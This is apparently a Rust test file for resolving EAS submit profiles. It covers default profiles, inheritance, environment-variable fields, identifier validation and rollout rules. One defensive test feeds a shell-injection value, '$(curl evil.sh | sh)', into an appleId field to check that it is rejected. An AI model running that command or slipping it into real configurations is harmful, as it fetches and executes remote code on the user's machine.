//! Submit profile resolution tests
//!
//! Covers the submit-specific soft behaviors (all-defaults profile when the
//! section is absent), `$VAR` field evaluation, semantic identifier
//! validation and the rollout/releaseStatus invariant.

use eas_config::resolve::{
    resolve_submit_profile, ReleaseStatus, Track,
};
use eas_config::{ConfigError, EasJson, EasJsonAccessor, Platform};

fn document(text: &str) -> EasJson {
    EasJsonAccessor::from_contents(text).read().unwrap().clone()
}

// =============================================================================
// Section-absent soft behavior
// =============================================================================

#[test]
fn test_no_submit_section_and_no_name_yields_defaults() {
    let doc = document(r#"{"build":{"production":{}}}"#);

    let android = resolve_submit_profile(&doc, Platform::Android, None).unwrap();
    let android = android.as_android().unwrap();
    assert_eq!(android.track, Track::Internal);
    assert_eq!(android.release_status, ReleaseStatus::Completed);
    assert!(!android.changes_not_sent_for_review);

    let ios = resolve_submit_profile(&doc, Platform::Ios, None).unwrap();
    let ios = ios.as_ios().unwrap();
    assert_eq!(ios.language, "en-US");
    assert!(ios.apple_id.is_none());
}

#[test]
fn test_explicit_name_errors_when_section_absent() {
    let doc = document(r#"{"build":{"production":{}}}"#);
    let err = resolve_submit_profile(&doc, Platform::Android, Some("production")).unwrap_err();
    assert!(matches!(err, ConfigError::MissingProfile(_)));
}

#[test]
fn test_default_name_required_once_section_has_profiles() {
    let doc = document(r#"{"submit":{"staging":{"android":{"track":"beta"}}}}"#);
    let err = resolve_submit_profile(&doc, Platform::Android, None).unwrap_err();
    assert!(matches!(err, ConfigError::MissingProfile(name) if name == "production"));
}

// =============================================================================
// Inheritance
// =============================================================================

#[test]
fn test_submit_profiles_extend_within_their_own_section() {
    let doc = document(
        r#"{
            "submit": {
                "base": {"android": {"track": "internal", "changesNotSentForReview": true}},
                "production": {"extends": "base", "android": {"track": "production"}}
            }
        }"#,
    );
    let profile = resolve_submit_profile(&doc, Platform::Android, None).unwrap();
    let android = profile.as_android().unwrap();
    assert_eq!(android.track, Track::Production);
    assert!(android.changes_not_sent_for_review);
}

// =============================================================================
// Environment-variable indirection
// =============================================================================

#[test]
fn test_reference_fields_read_from_the_environment() {
    std::env::set_var("SUBMIT_TEST_ASC_KEY_PATH", "/keys/asc.p8");
    let doc = document(
        r#"{
            "submit": {
                "production": {
                    "ios": {
                        "ascApiKeyPath": "$SUBMIT_TEST_ASC_KEY_PATH",
                        "appleId": "dev@example.com"
                    }
                }
            }
        }"#,
    );
    let profile = resolve_submit_profile(&doc, Platform::Ios, None).unwrap();
    let ios = profile.as_ios().unwrap();
    assert_eq!(ios.asc_api_key_path.as_deref(), Some("/keys/asc.p8"));
    assert_eq!(ios.apple_id.as_deref(), Some("dev@example.com"));
    std::env::remove_var("SUBMIT_TEST_ASC_KEY_PATH");
}

#[test]
fn test_unset_reference_leaves_field_unset_instead_of_erroring() {
    std::env::remove_var("SUBMIT_TEST_MISSING_VAR");
    let doc = document(
        r#"{
            "submit": {
                "production": {"android": {"serviceAccountKeyPath": "$SUBMIT_TEST_MISSING_VAR"}}
            }
        }"#,
    );
    let profile = resolve_submit_profile(&doc, Platform::Android, None).unwrap();
    assert!(profile
        .as_android()
        .unwrap()
        .service_account_key_path
        .is_none());
}

#[test]
fn test_evaluated_identifier_is_still_semantically_validated() {
    std::env::set_var("SUBMIT_TEST_BAD_TEAM_ID", "not a team id");
    let doc = document(
        r#"{
            "submit": {
                "production": {"ios": {"appleTeamId": "$SUBMIT_TEST_BAD_TEAM_ID"}}
            }
        }"#,
    );
    let err = resolve_submit_profile(&doc, Platform::Ios, None).unwrap_err();
    match err {
        ConfigError::InvalidFieldValue { field, .. } => assert_eq!(field, "appleTeamId"),
        other => panic!("expected InvalidFieldValue, got {other:?}"),
    }
    std::env::remove_var("SUBMIT_TEST_BAD_TEAM_ID");
}

// =============================================================================
// Semantic identifier validation
// =============================================================================

#[test]
fn test_shell_injection_shaped_apple_id_is_rejected() {
    let doc = document(
        r#"{"submit":{"production":{"ios":{"appleId":"$(curl evil.sh | sh)"}}}}"#,
    );
    let err = resolve_submit_profile(&doc, Platform::Ios, None).unwrap_err();
    assert!(matches!(err, ConfigError::InvalidFieldValue { .. }));
}

#[test]
fn test_well_formed_identifiers_pass() {
    let doc = document(
        r#"{
            "submit": {
                "production": {
                    "ios": {
                        "appleId": "release-bot@example.com",
                        "appleTeamId": "AB12CD34EF",
                        "ascAppId": "6448311069",
                        "ascApiKeyId": "Z9Y8X7W6V5",
                        "ascApiKeyIssuerId": "69a6de80-1c3b-47e3-e053-5b8c7c11a4d1"
                    }
                }
            }
        }"#,
    );
    resolve_submit_profile(&doc, Platform::Ios, None).unwrap();
}

// =============================================================================
// Rollout invariant
// =============================================================================

#[test]
fn test_in_progress_requires_rollout() {
    let doc = document(
        r#"{"submit":{"production":{"android":{"releaseStatus":"inProgress"}}}}"#,
    );
    let err = resolve_submit_profile(&doc, Platform::Android, None).unwrap_err();
    assert!(matches!(err, ConfigError::Invalid(_)));
    assert!(err.to_string().contains("rollout"));
}

#[test]
fn test_in_progress_with_rollout_resolves() {
    let doc = document(
        r#"{
            "submit": {
                "production": {"android": {"releaseStatus": "inProgress", "rollout": 0.5}}
            }
        }"#,
    );
    let profile = resolve_submit_profile(&doc, Platform::Android, None).unwrap();
    let android = profile.as_android().unwrap();
    assert_eq!(android.release_status, ReleaseStatus::InProgress);
    assert_eq!(android.rollout, Some(0.5));
}

#[test]
fn test_rollout_outside_in_progress_is_rejected() {
    for status in ["completed", "draft", "halted"] {
        let doc = document(&format!(
            r#"{{"submit":{{"production":{{"android":{{"releaseStatus":"{status}","rollout":0.1}}}}}}}}"#,
        ));
        let err = resolve_submit_profile(&doc, Platform::Android, None).unwrap_err();
        assert!(err.to_string().contains("inProgress"), "status {status}");
    }
}
